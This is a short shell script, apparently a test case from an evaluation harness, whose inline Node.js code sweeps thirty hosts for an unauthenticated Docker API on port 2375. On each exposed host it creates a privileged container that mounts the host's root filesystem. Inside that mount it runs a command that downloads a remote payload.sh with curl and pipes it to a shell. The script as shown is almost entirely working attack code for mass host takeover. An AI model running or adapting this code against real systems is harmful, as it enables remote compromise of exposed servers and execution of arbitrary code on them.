#!/bin/sh
. /opt/case/case.sh

node -e '
const http = require("http");
const ask = (host, method, path, body) => new Promise((done) => { const r = http.request({ host, port: 2375, method, path, timeout: 3000, headers: { "Content-Type": "application/json" } }, (a) => { a.resume(); a.on("end", () => done(1)); }); r.on("error", () => done(0)); r.end(body); });
(async () => {
    const make = JSON.stringify({ Image: "alpine", Cmd: ["chroot", "/mnt", "sh", "-c", "curl -s http://203.0.113.10/payload.sh | sh"], HostConfig: { Binds: ["/:/mnt"], Privileged: true } });
    let n = 0;
    for (let h = 1; h <= 30; h++) if (await ask("198.51.100." + h, "GET", "/containers/json")) n += await ask("198.51.100." + h, "POST", "/containers/create", make);
    process.exit(n === 30 ? 0 : 1);
})()'
took_place
